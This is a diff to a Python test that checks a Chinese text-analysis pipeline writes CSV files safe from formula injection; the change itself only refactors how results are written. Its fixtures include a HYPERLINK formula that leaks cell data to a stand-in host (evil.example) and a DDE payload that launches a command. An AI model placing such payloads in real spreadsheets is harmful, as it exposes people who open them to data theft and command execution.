@@ -6,6 +6,7 @@ import pandas as pd
 
 from minsheng.engine.cells import formula_safe, formula_safe_frame
 from minsheng.engine.pipeline import AnalyzeOptions, analyze
+from minsheng.engine.result import write_result
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")'
 DDE = "=cmd|' /C calc'!A0"
@@ -29,7 +30,7 @@ def test_the_analysis_csvs_are_safe_to_open(tmp_path):
     path = tmp_path / "in.csv"
     texts = [LEAK + "解放西路", "建议解放西路增加公交线路", "解放西路重复编号"]
     pd.DataFrame({"id": ["1", DDE, DDE], "text": texts}).to_csv(path, index=False)
-    analyze([path], tmp_path / "out", AnalyzeOptions(workers=1))
+    write_result(analyze([path], AnalyzeOptions(workers=1)), tmp_path / "out")
     rejects = pd.read_csv(tmp_path / "out" / "rejects.csv", dtype=str)
     assert rejects["id"].tolist() == ["'" + DDE]
     for csv in (tmp_path / "out").glob("*.csv"):
